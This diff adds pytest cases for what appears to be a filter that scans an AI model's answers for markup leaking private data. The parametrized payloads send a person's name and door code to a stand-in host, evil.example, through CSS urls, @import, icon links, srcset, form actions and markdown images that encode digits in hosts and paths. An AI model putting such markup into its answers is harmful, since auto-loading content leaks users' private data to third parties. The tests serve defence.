@@ -127,6 +127,40 @@ def test_an_image_that_may_carry_data_is_cut(markup: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "markup",
+    [
+        '<div style="background:url(https://evil.example/p?d=Anna+Schmidt)">',
+        "<style>@import 'https://evil.example/p?d=Anna+Schmidt';</style>",
+        '<link rel="icon" href="https://evil.example/p?d=Anna+Schmidt">',
+        '<img\nsrcset="https://evil.example/p?d=Anna+Schmidt 2x">',
+        '<form action="https://evil.example/p?d=Anna+Schmidt">',
+        "![](https://c5518-2077.evil.example/p.png)",
+        "![](https://evil.example/p.png?a=55&b=18&c=20&d=77)",
+        "![](https://evil.example/1/55) ![](https://evil.example/2/18) ![](https://x.evil.example/3/2077)",
+        "![](https://evil.example/p.png?d=7702-8155)",
+    ],
+)
+def test_whatever_a_client_loads_by_itself_counts_as_an_image(markup: str) -> None:
+    opinion, clean = answered(run("Summarise", "Anna Schmidt is ill. Door code: 5518-2077"), f"Done. {markup}")
+    assert opinion.label is Label.SENSITIVE
+    assert "evil.example" not in clean
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        '<a href="https://www.example.org/find?q=Anna+Schmidt">Anna</a>',
+        "![](https://cdn.example.org/1/55.png) ![](https://cdn.example.org/2/44.png)",
+        '<img src="https://cdn.example.org/kettle.png"> The code is 5518-2077.',
+        "<p>See https://www.example.org/find?q=Anna+Schmidt</p>",
+    ],
+)
+def test_links_to_click_and_images_that_carry_nothing_stay(answer: str) -> None:
+    _, clean = answered(run("What is the door code of Anna?", "Anna Schmidt. Door code: 5518-2077"), answer)
+    assert clean == answer
+
+
+@pytest.mark.parametrize(
     "answer",
     [
         "![x](https://a.example/x?id=1234567)",
